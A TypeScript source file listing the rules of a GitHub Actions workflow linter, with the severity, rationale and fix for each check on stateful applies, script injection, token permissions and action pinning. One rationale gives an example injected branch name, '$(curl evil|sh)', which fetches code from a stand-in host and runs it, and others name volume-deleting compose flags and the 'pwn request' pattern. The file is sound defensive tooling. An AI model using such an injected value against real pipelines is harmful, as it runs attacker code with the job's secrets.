/**
 * The catalogue of lint-workflows rules (DESIGN §9). Each rule has a stable ID (never reused or
 * renumbered: workflows and code-scanning alerts refer to it), a name, a default severity and the
 * what / why / how-to-fix that docs/rules.md and the SARIF rule help both show. A unit test keeps
 * docs/rules.md in step with this list.
 */
export type Severity = 'error' | 'warning';

export interface RuleDef {
  readonly id: string;
  readonly name: string;
  readonly severity: Severity;
  /** one line: what is wrong */
  readonly summary: string;
  readonly why: string;
  readonly fix: string;
}

export const RULES = [
  {
    id: 'SG000',
    name: 'workflow-schema',
    severity: 'error',
    summary: 'The workflow does not match the GitHub Actions workflow schema, or an expression in it is invalid.',
    why: "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse the file or evaluate something other than what was written. No other rule can be trusted on a file the runner reads differently.",
    fix: 'Correct the key, value or `${{ }}` expression at the reported position, as the message says.',
  },
  {
    id: 'SG001',
    name: 'workflow-yaml',
    severity: 'error',
    summary: 'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one document, not a mapping, or aliases that expand too much.',
    why: 'A workflow that cannot be read safely cannot be checked; stateguard fails closed rather than skipping it.',
    fix: 'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use anchors/aliases sparingly.',
  },
  {
    id: 'SG101',
    name: 'apply-automatic-trigger',
    severity: 'error',
    summary: 'A stateful apply (`stateful-apply`/`apply` step, or the root action with `command: apply`) is reachable from a trigger other than `workflow_dispatch`.',
    why: 'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` counts as automatic because the caller can be triggered by anything.',
    fix: 'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the pull-request workflow.',
  },
  {
    id: 'SG102',
    name: 'apply-input-hardcoded',
    severity: 'error',
    summary: '`confirm`, `backup-ref` or `allow-stateful` of an apply step is hard-coded instead of taken from the dispatch inputs.',
    why: 'These three values are the operator\'s explicit consent, the backup they vouch for and the exact confirm token. Written into the workflow, they consent once for every future run.',
    fix: 'Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, `backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or `github.event.inputs.*`).',
  },
  {
    id: 'SG103',
    name: 'dispatch-input-unsafe',
    severity: 'error',
    summary: 'The dispatch input `allow_stateful` is not `type: boolean` with `default: false`, or `stateful_confirm`/`backup_ref` is not `required: true` or has a default.',
    why: 'A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a run apply to stateful data without the operator deciding it.',
    fix: 'Declare `allow_stateful: {type: boolean, default: false}`, and `stateful_confirm`/`backup_ref` with `required: true` and no `default`.',
  },
  {
    id: 'SG104',
    name: 'apply-concurrency',
    severity: 'error',
    summary: 'An apply job has no `concurrency` group (job or workflow level), or sets `cancel-in-progress` to anything but `false`.',
    why: 'Two applies to the same module at once race on its data; cancelling an apply mid-way is a crash in the middle of a change.',
    fix: 'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply job.',
  },
  {
    id: 'SG105',
    name: 'gate-continue-on-error',
    severity: 'error',
    summary: 'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to anything but `false`.',
    why: 'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the workflow goes on as if the gate had passed.',
    fix: 'Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step\'s `failure-reason` output in a later step with `if: failure()`.',
  },
  {
    id: 'SG106',
    name: 'compose-volume-removal',
    severity: 'error',
    summary: '`docker compose` (or `docker-compose`) with `down -v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes` in a `run:` of a workflow that touches stateful modules.',
    why: 'These flags delete or recreate volumes, or answer yes to compose\'s "data will be lost" prompt: exactly the data stateguard protects. A workflow touches stateful modules when it has a stateguard guard, apply, stateful-apply or snapshot step, or an `allow_stateful` input.',
    fix: 'Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through stateguard\'s guarded apply; remove a volume by hand after a verified backup.',
  },
  {
    id: 'SG201',
    name: 'script-injection',
    severity: 'error',
    summary: '`${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` is interpolated into a `run:` script or an actions/github-script `script:`.',
    why: 'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or title such as `$(curl evil|sh)` runs as code with the job\'s token and secrets.',
    fix: 'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use `"$TITLE"` (or `process.env.TITLE`) in the script.',
  },
  {
    id: 'SG202',
    name: 'permissions',
    severity: 'error',
    summary: 'The workflow has no top-level `permissions`, or grants `write-all` (top level or job).',
    why: 'Without `permissions` the token gets the repository default, often write to everything; a compromised step can then push code or rewrite workflows.',
    fix: 'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job only where needed (e.g. `pull-requests: write` for the plan comment).',
  },
  {
    id: 'SG203',
    name: 'untrusted-checkout',
    severity: 'error',
    summary: '`pull_request_target` or `workflow_run` together with an actions/checkout of the pull request\'s head.',
    why: 'Those triggers run with the base repository\'s secrets and a write token; checking out the PR head then runs the contributor\'s code with them ("pwn request").',
    fix: 'Use the `pull_request` trigger for anything that builds or runs the PR\'s code, or check out only the base ref in the privileged workflow.',
  },
  {
    id: 'SG301',
    name: 'action-not-pinned',
    severity: 'warning',
    summary: '`uses:` does not pin the action or reusable workflow to a full 40-character commit SHA.',
    why: 'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs with your secrets.',
    fix: 'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local `./` actions and `docker://` images with a `@sha256:` digest are exempt.',
  },
] as const satisfies readonly RuleDef[];

export type RuleId = (typeof RULES)[number]['id'];

const BY_ID = new Map<string, RuleDef>(RULES.map((r) => [r.id, r]));

export function ruleById(id: RuleId): RuleDef {
  return BY_ID.get(id)!;
}

export interface Problem {
  file: string;
  line: number;
  column: number;
  rule: RuleId;
  severity: Severity;
  message: string;
}

export function compareProblems(a: Problem, b: Problem): number {
  return a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
}
